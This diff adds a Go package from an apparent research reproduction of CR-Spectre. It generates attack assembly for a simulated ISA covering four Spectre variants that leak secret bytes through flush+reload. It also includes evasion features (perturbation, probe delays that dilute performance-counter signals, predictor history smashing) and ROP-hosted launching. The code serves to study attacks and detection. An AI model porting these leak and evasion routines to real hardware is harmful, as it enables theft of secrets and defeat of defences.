@@ -1,0 +1,551 @@
+// Package spectre generates the speculative attack binaries of the
+// reproduction. Each variant leaks a secret byte-by-byte through the
+// flush+reload cache covert channel, differing only in which prediction
+// structure it mistrains — matching the paper's statement that results
+// average "different variants of the Spectre attack, discussed in [20],
+// [21]":
+//
+//   - V1BoundsCheck: the classic Spectre v1 bounds-check bypass (PHT).
+//   - VRSB: return-stack-buffer misdirection (SpectreRSB / ret2spec,
+//     paper ref [20]).
+//   - VSpecStoreOverflow: speculative buffer overflow — a bounds-checked
+//     store transiently overwrites the function's own return address
+//     (paper ref [21]).
+//   - VBTB: indirect-branch (BTB) mistraining in the Spectre v2 style.
+//
+// The generator emits assembly for the simulated ISA; the attack binary
+// is registered with the machine and either launched standalone (the
+// paper's "traditional Spectre", Fig. 2b) or EXEC'd by the ROP chain
+// inside a host (CR-Spectre, Fig. 2c). The perturbation routine from
+// package perturb is spliced in as the `perturb:` symbol and called once
+// per leaked byte, exactly as §II-E describes ("the code shown in
+// Algorithm 2 is called from within the malicious code").
+package spectre
+
+import (
+	"fmt"
+	"strings"
+
+	"repro/internal/isa"
+	"repro/internal/perturb"
+)
+
+// Variant selects the mistrained prediction structure.
+type Variant int
+
+// The implemented attack variants.
+const (
+	V1BoundsCheck Variant = iota
+	VRSB
+	VSpecStoreOverflow
+	VBTB
+	numVariants
+)
+
+// Variants lists every implemented variant (the set the paper averages).
+func Variants() []Variant {
+	return []Variant{V1BoundsCheck, VRSB, VSpecStoreOverflow, VBTB}
+}
+
+// String names the variant.
+func (v Variant) String() string {
+	switch v {
+	case V1BoundsCheck:
+		return "v1-bounds-check"
+	case VRSB:
+		return "rsb"
+	case VSpecStoreOverflow:
+		return "spec-store-overflow"
+	case VBTB:
+		return "btb"
+	}
+	return fmt.Sprintf("variant(%d)", int(v))
+}
+
+// Config parameterises attack-binary generation.
+type Config struct {
+	// Variant is the speculation primitive to use.
+	Variant Variant
+	// TargetAddr is the absolute address of the secret (the paper's
+	// threat model: "the adversary knows the address of the secret").
+	TargetAddr uint64
+	// SecretLen is the number of bytes to leak.
+	SecretLen int
+	// PerturbAsm supplies the `perturb:` routine body; empty means the
+	// no-op routine (plain Spectre).
+	PerturbAsm string
+	// ResumePath, when non-empty, is EXEC'd after the leak completes —
+	// CR-Spectre uses "host#workload_entry" so the host's benign
+	// workload still runs under whose cloak the attack hid.
+	ResumePath string
+	// Threshold is the flush+reload hit/miss cutoff in cycles
+	// (default 100: between an L2 hit ~30+fence and DRAM ~200).
+	Threshold uint64
+	// TrainRounds is the number of in-bounds training calls per leaked
+	// byte (default 6).
+	TrainRounds int
+	// ProbeDelay inserts a busy-wait of this many iterations between
+	// consecutive probe measurements — the §II-E dispersion knob ("we
+	// can use a delay loop to disperse generated perturbations, thus
+	// distributing them in time"), which dilutes the attack's
+	// per-interval HPC magnitudes toward benign levels.
+	ProbeDelay int64
+	// Rounds repeats the leak of each byte and majority-votes the
+	// result — the original PoC's scoring loop ("the data recovery
+	// process is elaborated in [3]"), which rides out lossy channels
+	// (co-tenant cache interference). 0 or 1 means a single round.
+	Rounds int
+	// HistoryMatched hardens the v1 mistraining against history-indexed
+	// predictors (gshare). The plain looped trainer fails there twice
+	// over: the loop's own branches desynchronise the global history
+	// between training and attack, and the malicious call occupies a
+	// history position no training call ever reaches. History smashing
+	// fixes both — a constant branch sequence runs before *every* victim
+	// call (training and malicious alike), so all calls collapse onto
+	// one predictor entry which the in-bounds calls keep trained
+	// not-taken.
+	HistoryMatched bool
+}
+
+func (c Config) withDefaults() Config {
+	if c.Threshold == 0 {
+		c.Threshold = 100
+	}
+	if c.TrainRounds == 0 {
+		c.TrainRounds = 6
+	}
+	if c.SecretLen <= 0 {
+		c.SecretLen = 1
+	}
+	if c.PerturbAsm == "" {
+		c.PerturbAsm = perturb.None()
+	}
+	return c
+}
+
+// Source emits the complete attack program.
+//
+// Register conventions inside the generated program: r9 holds the
+// current target byte address and r10 the remaining byte count; leak
+// routines preserve both and return the recovered byte (or 255) in r0.
+func (c Config) Source() string {
+	c = c.withDefaults()
+	var b strings.Builder
+
+	b.WriteString(".entry spectre_main\n")
+	b.WriteString("spectre_main:\n")
+	fmt.Fprintf(&b, "\tmovi r9, %d\n", int64(c.TargetAddr))
+	fmt.Fprintf(&b, "\tmovi r10, %d\n", c.SecretLen)
+	leakCall := "leak_byte"
+	if c.Rounds > 1 {
+		leakCall = "leak_byte_voted"
+	}
+	b.WriteString(`sm_loop:
+	cmpi r10, 0
+	je sm_done
+	call ` + leakCall + `
+	mov r1, r0
+	movi r0, 1
+	syscall              ; putchar(recovered byte)
+	call perturb
+	addi r9, r9, 1
+	subi r10, r10, 1
+	jmp sm_loop
+sm_done:
+`)
+	if c.ResumePath != "" {
+		b.WriteString("\tmovi r0, 3\n\tmovi r1, resume_path\n\tsyscall\n\thalt\n")
+	} else {
+		b.WriteString("\tmovi r0, 0\n\tmovi r1, 0\n\tsyscall\n\thalt\n")
+	}
+
+	// The variant's leak_byte plus its supporting victim routines.
+	switch c.Variant {
+	case V1BoundsCheck:
+		b.WriteString(c.leakV1())
+	case VRSB:
+		b.WriteString(c.leakRSB())
+	case VSpecStoreOverflow:
+		b.WriteString(c.leakSBO())
+	case VBTB:
+		b.WriteString(c.leakBTB())
+	default:
+		panic(fmt.Sprintf("spectre: unknown variant %d", int(c.Variant)))
+	}
+
+	if c.Rounds > 1 {
+		b.WriteString(c.votedLeakAsm())
+	}
+
+	b.WriteString(c.PerturbAsm)
+	b.WriteString("\n.data\n")
+	b.WriteString(dataAsm)
+	b.WriteString(perturb.DataAsm())
+	if c.Rounds > 1 {
+		b.WriteString(votedDataAsm)
+	}
+	if c.ResumePath != "" {
+		fmt.Fprintf(&b, "resume_path: .asciz %q\n", c.ResumePath)
+	}
+	return b.String()
+}
+
+// votedDataAsm is the voting receiver's tally table and round counter.
+const votedDataAsm = `
+.align 64
+lbv_tally: .space 2048
+lbv_round: .word 0
+`
+
+// votedLeakAsm wraps leak_byte in a majority-vote loop: each round's
+// candidate increments a tally slot, and the argmax wins. Rounds where
+// interference corrupted the probe (no warm line, or a noise-warmed
+// line) are outvoted by the consistent true byte.
+func (c Config) votedLeakAsm() string {
+	return fmt.Sprintf(`
+leak_byte_voted:          ; r9 = target; r0 = majority byte (255 if dry)
+	movi r11, 0
+lbv_clear:
+	movi r12, lbv_tally
+	mov r13, r11
+	shli r13, r13, 3
+	add r12, r12, r13
+	movi r13, 0
+	store [r12], r13
+	addi r11, r11, 1
+	cmpi r11, 256
+	jb lbv_clear
+	movi r12, lbv_round
+	movi r13, %d
+	store [r12], r13
+lbv_loop:
+	call leak_byte
+	cmpi r0, 255
+	je lbv_next
+	movi r12, lbv_tally
+	mov r13, r0
+	shli r13, r13, 3
+	add r12, r12, r13
+	load r13, [r12]
+	addi r13, r13, 1
+	store [r12], r13
+lbv_next:
+	movi r12, lbv_round
+	load r13, [r12]
+	subi r13, r13, 1
+	store [r12], r13
+	cmpi r13, 0
+	jne lbv_loop
+	movi r11, 0
+	movi r0, 255          ; best index
+	movi r8, 0            ; best count
+lbv_argmax:
+	movi r12, lbv_tally
+	mov r13, r11
+	shli r13, r13, 3
+	add r12, r12, r13
+	load r13, [r12]
+	cmp r13, r8
+	jbe lbv_skip
+	mov r8, r13
+	mov r0, r11
+lbv_skip:
+	addi r11, r11, 1
+	cmpi r11, 256
+	jb lbv_argmax
+	ret
+`, c.Rounds)
+}
+
+// Module assembles the generated source.
+func (c Config) Module() (*isa.Module, error) {
+	return isa.Assemble(c.Source())
+}
+
+// dataAsm is the attack binary's data section: the v1 bounds-check pair
+// (arr1_size/arr1), the speculative-store victim buffer, the BTB
+// function-pointer slot, and the 256-line probe array (64-byte aligned,
+// 512-byte stride like the original PoC).
+const dataAsm = `
+.align 64
+arr1_size: .word 4
+.align 64
+arr1: .byte 1, 2, 3, 4
+.align 64
+sbo_size: .word 4
+.align 64
+sbo_buf: .space 64
+.align 64
+bt_fnptr: .word 0
+.align 64
+bt_dummy: .byte 1
+.align 64
+probe: .space 131072
+`
+
+// flushProbeAsm evicts all 256 probe lines (start of every leak round).
+const flushProbeAsm = `
+	movi r11, 0
+lb_flush:
+	mov r12, r11
+	shli r12, r12, 9
+	movi r13, probe
+	add r13, r13, r12
+	clflush [r13]
+	addi r11, r11, 1
+	cmpi r11, 256
+	jb lb_flush
+	mfence
+`
+
+// probeScanAsm times every probe line and returns the first warm index
+// in r0 (255 when none) — the flush+reload receiver. With ProbeDelay set
+// it busy-waits between measurements, dispersing the scan's cache
+// misses across many sampling intervals.
+func (c Config) probeScanAsm() string {
+	delay := ""
+	if c.ProbeDelay > 0 {
+		delay = fmt.Sprintf(`	movi r5, %d
+lb_probe_delay:
+	subi r5, r5, 1
+	cmpi r5, 0
+	jne lb_probe_delay
+`, c.ProbeDelay)
+	}
+	return fmt.Sprintf(`
+	movi r11, 0
+	movi r0, 255
+lb_probe:
+`+delay+`	mov r12, r11
+	shli r12, r12, 9
+	movi r13, probe
+	add r13, r13, r12
+	rdtsc r2
+	loadb r3, [r13]
+	lfence
+	rdtsc r4
+	sub r4, r4, r2
+	cmpi r4, %d
+	jae lb_probe_next
+	mov r0, r11
+	jmp lb_probe_done
+lb_probe_next:
+	addi r11, r11, 1
+	cmpi r11, 256
+	jb lb_probe
+lb_probe_done:
+	ret
+`, c.Threshold)
+}
+
+// leakV1 is the classic bounds-check-bypass leak: train the PHT with
+// in-bounds calls, flush arr1_size so the check resolves late, then call
+// with x = target - arr1 so the wrong path reads the secret and touches
+// probe[secret*512].
+func (c Config) leakV1() string {
+	train := fmt.Sprintf(`
+	movi r11, %d
+lb_train:
+	mov r1, r11
+	andi r1, r1, 3
+	call victim
+	subi r11, r11, 1
+	cmpi r11, 0
+	jne lb_train
+`, c.TrainRounds)
+	preMalicious := ""
+	if c.HistoryMatched {
+		// smash(i) writes a constant branch pattern (13 taken, 1 not)
+		// into the global history so the following victim call always
+		// indexes the same gshare entry.
+		smash := func(i int) string {
+			return fmt.Sprintf(`	movi r12, 14
+lb_smash_%d:
+	subi r12, r12, 1
+	cmpi r12, 0
+	jne lb_smash_%d
+`, i, i)
+		}
+		var b strings.Builder
+		for i := 0; i < c.TrainRounds; i++ {
+			b.WriteString(smash(i))
+			fmt.Fprintf(&b, "\tmovi r1, %d\n\tcall victim\n", i&3)
+		}
+		train = b.String()
+		preMalicious = smash(999)
+	}
+	return `
+victim:               ; victim(r1=x): if x < arr1_size { probe[arr1[x]*512] }
+	movi r3, arr1_size
+	load r4, [r3]
+	cmp r1, r4
+	jae v_out
+	movi r5, arr1
+	add r5, r5, r1
+	loadb r6, [r5]
+	shli r6, r6, 9
+	movi r7, probe
+	add r7, r7, r6
+	loadb r8, [r7]
+v_out:
+	ret
+
+leak_byte:
+` + flushProbeAsm + train + `
+	; evict the probe lines the in-bounds training touched
+	; (arr1 holds 1..4, so lines 1*512 .. 4*512)
+	movi r13, probe+512
+	clflush [r13]
+	movi r13, probe+1024
+	clflush [r13]
+	movi r13, probe+1536
+	clflush [r13]
+	movi r13, probe+2048
+	clflush [r13]
+	movi r13, arr1_size
+	clflush [r13]
+	mfence
+	mov r1, r9
+	movi r13, arr1
+	sub r1, r1, r13
+` + preMalicious + `	call victim
+	lfence               ; stop the transient path from running into the
+	                     ; probe scan below and polluting the measurement
+` + c.probeScanAsm()
+}
+
+// leakRSB mistrains the return stack buffer (paper ref [20]): the helper
+// rewrites its own return address and flushes the stack slot, so the RET
+// resolves slowly toward the rewritten target while the RSB sends the
+// transient path back to the call site — where the secret-dependent
+// gadget sits.
+func (c Config) leakRSB() string {
+	return `
+rsb_helper:
+	movi r3, rsb_safe
+	store [sp], r3       ; architectural return target
+	clflush [sp]         ; make the RET's address load slow
+	ret                  ; RSB predicts rsb_landing -> transient gadget
+
+leak_byte:
+` + flushProbeAsm + `
+	call rsb_helper
+rsb_landing:             ; executed only transiently
+	mov r5, r9
+	loadb r6, [r5]
+	shli r6, r6, 9
+	movi r7, probe
+	add r7, r7, r6
+	loadb r8, [r7]
+	lfence               ; transient path barrier (never retired)
+	nop
+rsb_safe:
+` + c.probeScanAsm()
+}
+
+// leakSBO is the speculative-buffer-overflow variant (paper ref [21]):
+// a bounds-checked store transiently writes the gadget address over the
+// victim's own saved return address; the victim's RET then speculatively
+// enters the gadget.
+func (c Config) leakSBO() string {
+	return `
+victim_sbo:           ; victim_sbo(r1=idx, r2=val): if idx < sbo_size { sbo_buf[idx] = val }
+	movi r5, sbo_size
+	load r6, [r5]
+	cmp r1, r6
+	jae vs_out
+	movi r5, sbo_buf
+	mov r7, r1
+	shli r7, r7, 3
+	add r5, r5, r7
+	store [r5], r2
+vs_out:
+	ret
+
+sbo_gadget:           ; executed only transiently, via the shadowed RET
+	mov r5, r9
+	loadb r6, [r5]
+	shli r6, r6, 9
+	movi r7, probe
+	add r7, r7, r6
+	loadb r8, [r7]
+	lfence
+
+leak_byte:
+` + flushProbeAsm + fmt.Sprintf(`
+	movi r11, %d
+vs_train:
+	mov r1, r11
+	andi r1, r1, 3
+	movi r2, 0
+	call victim_sbo
+	subi r11, r11, 1
+	cmpi r11, 0
+	jne vs_train
+`, c.TrainRounds) + `
+	movi r13, sbo_size
+	clflush [r13]
+	mfence
+	; idx such that sbo_buf + 8*idx == the return-address slot ([sp-8]
+	; once the call pushes)
+	mov r3, sp
+	subi r3, r3, 8
+	movi r4, sbo_buf
+	sub r3, r3, r4
+	shri r3, r3, 3
+	mov r1, r3
+	movi r2, sbo_gadget
+	call victim_sbo
+` + c.probeScanAsm()
+}
+
+// leakBTB mistrains the branch target buffer (Spectre v2 style): an
+// indirect call site is trained onto the leak gadget with a dummy
+// target, then the function pointer is swapped to a benign routine and
+// its cache line flushed; the stale BTB entry steers the transient path
+// into the gadget with the real secret address in r9.
+func (c Config) leakBTB() string {
+	return `
+btb_gadget:
+	loadb r6, [r9]
+	shli r6, r6, 9
+	movi r7, probe
+	add r7, r7, r6
+	loadb r8, [r7]
+	ret
+
+bt_benign:
+	ret
+
+bt_dispatch:             ; the single indirect call site the BTB learns
+	movi r3, bt_fnptr
+	load r5, [r3]
+	callr r5
+	lfence               ; keep any transient path out of the caller
+	ret
+
+leak_byte:
+` + flushProbeAsm + `
+	mov r13, r9          ; save the real target
+	movi r9, bt_dummy    ; train with a harmless address (value 1)
+	movi r3, bt_fnptr
+	movi r4, btb_gadget
+	store [r3], r4
+	movi r11, 3
+bt_train:
+	call bt_dispatch     ; trains the dispatch site's BTB entry
+	subi r11, r11, 1
+	cmpi r11, 0
+	jne bt_train
+	movi r5, probe+512   ; evict the training touch (dummy value 1)
+	clflush [r5]
+	movi r4, bt_benign
+	movi r3, bt_fnptr
+	store [r3], r4
+	clflush [r3]
+	mfence
+	mov r9, r13          ; restore the real target
+	call bt_dispatch     ; stale BTB entry steers the transient path
+	                     ; into btb_gadget with the secret in r9
+` + c.probeScanAsm()
+}
